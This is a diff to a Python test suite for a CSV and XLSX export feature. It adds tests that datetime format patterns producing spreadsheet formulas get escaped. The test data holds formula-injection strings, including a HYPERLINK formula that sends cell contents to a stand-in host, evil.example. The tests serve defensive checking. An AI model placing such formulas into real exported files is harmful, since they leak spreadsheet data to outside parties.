@@ -6,8 +6,10 @@ import io
 import re
 import time
 from collections.abc import Callable
+from datetime import UTC, datetime
 from typing import Any
 
+import openpyxl
 import pytest
 import zstandard
 from django.db import connection
@@ -212,6 +214,30 @@ def test_only_text_is_escaped() -> None:
     shown = {name: cell for name, cell in zip(COLUMNS, row, strict=True) if cell}
     expected = {"text": "'-1-1", "integer": "-5", "float": "-0.5", "list": "'=a"}
     assert shown == expected | {"json": "'@b, 1"}
+
+
+@pytest.mark.parametrize(
+    ("pattern", "shown"),
+    [
+        ("""'=HYPERLINK("http://x/"&A2)'""", """'=HYPERLINK("http://x/"&A2)"""),
+        ("'@'yyyy", "'@2024"),
+        ("' ='yyyy", "' =2024"),
+        ("""x'+HYPERLINK("http://x/"&A2)'""", """'-05+HYPERLINK("http://x/"&A2)"""),
+        ("'-'d", "-25"),
+        ("xxx", "-05:00"),
+        ("yyyy (MMM)", "2024 (Dec)"),
+    ],
+)
+def test_the_text_of_a_datetime_pattern_is_escaped(pattern: str, shown: str) -> None:
+    at = datetime(2024, 12, 25, 14, 30, tzinfo=UTC)
+    options: dict[str, Any] = {"datetime_format": pattern, "timezone": "America/New_York"}
+    content = exported(
+        stored({"datetime": at}), "csv", columns=["datetime"], include_header=False, **options
+    )
+    assert read(content, {}) == [[shown]]
+    sheet = exported(stored({"datetime": at}), "xlsx", columns=["datetime"], **options)
+    [_, [cell]] = openpyxl.load_workbook(io.BytesIO(sheet)).active.values
+    assert cell == shown or isinstance(cell, datetime)
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
